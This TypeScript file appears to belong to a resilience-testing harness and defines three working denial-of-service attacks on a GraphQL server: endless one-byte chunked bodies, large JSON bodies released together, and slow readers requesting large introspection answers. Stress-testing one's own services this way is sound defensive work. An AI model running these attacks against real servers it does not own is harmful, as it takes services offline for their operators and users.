import type { Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../attack.ts';
import { numbers, type Target } from '../target.ts';

const TRICKLERS = 10;
const CHUNKS = 400_000;
const LARGE = 40;
const READERS = 200;
const PATIENCE_MS = 8_000;

const json = 'content-type: application/json\r\n';

/** Bodies in chunks of one byte each, which never end: a server that keeps an object for each chunk runs out of memory. */
export const oneByteChunks: Attack = {
  name: 'one-byte-chunks',
  run: async (target) => {
    const part = Buffer.from('1\r\na\r\n'.repeat(10_000));
    await Promise.all(
      [...numbers(TRICKLERS)].map(async () => {
        const socket = opened(target);
        socket.write(`POST /graphql HTTP/1.1\r\n${hostOf(target)}${json}transfer-encoding: chunked\r\n\r\n`);
        for (let sent = 0; sent < CHUNKS && !socket.destroyed && !target.isOver; sent += 10_000) {
          await written(socket, part);
        }
        await delay(500);
        socket.destroy();
        target.count('hung up');
      }),
    );
    return [];
  },
};

/** 40 bodies of 1 MB that are large once they are parsed, and whose last byte arrives together. */
export const largeJson: Attack = {
  name: 'large-json',
  run: async (target) => {
    const body = `{"query":"{ site { name } }","variables":{"a":[${'{},'.repeat(310_000)}{}]}}`;
    const head = `POST /graphql HTTP/1.1\r\n${hostOf(target)}${json}content-length: ${body.length}\r\n\r\n`;
    const sockets = [...numbers(LARGE)].map(() => opened(target));
    await Promise.all(sockets.map((socket) => written(socket, head + body.slice(0, -1))));
    const answers = sockets.map((socket) => firstStatus(socket));
    for (const socket of sockets) {
      socket.write(body.slice(-1));
    }
    for (const status of await Promise.all(answers)) {
      target.count(status);
    }
    for (const socket of sockets) {
      socket.destroy();
    }
    return [];
  },
};

/** 200 clients that ask for the largest answer there is, and read none of it. */
export const slowReaders: Attack = {
  name: 'slow-readers',
  run: async (target) => {
    const schema = '__schema { types { name description fields { name description args { name description } } } }';
    const query = ['a', 'b', 'c'].map((name) => `${name}: ${schema}`).join(' ');
    const body = JSON.stringify({ query: `{ ${query} }` });
    const head = `POST /graphql HTTP/1.1\r\n${hostOf(target)}${json}content-length: ${body.length}\r\n\r\n`;
    const sockets = [...numbers(READERS)].map(() =>
      target
        .connect()
        .on('error', () => undefined)
        .pause(),
    );
    for (const socket of sockets) {
      socket.write(head + body);
    }
    await delay(PATIENCE_MS / 2);
    for (const socket of sockets) {
      socket.destroy();
      target.count('hung up');
    }
    return [];
  },
};

function hostOf({ origin }: Target): string {
  return `host: ${origin.host}\r\n`;
}

function opened(target: Target): Socket {
  return target.connect().on('error', () => undefined);
}

function written(socket: Socket, data: string | Buffer): Promise<void> {
  return new Promise((resolve) => socket.write(data, () => resolve()));
}

async function firstStatus(socket: Socket): Promise<number | string> {
  const { promise, resolve } = Promise.withResolvers<number | string>();
  let answer = '';
  socket.on('data', (data) => {
    answer += data;
    const status = /^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1];
    if (status) {
      resolve(Number(status));
    }
  });
  socket.on('close', () => resolve('closed without an answer'));
  return Promise.race([promise, delay(PATIENCE_MS, 'no answer')]);
}
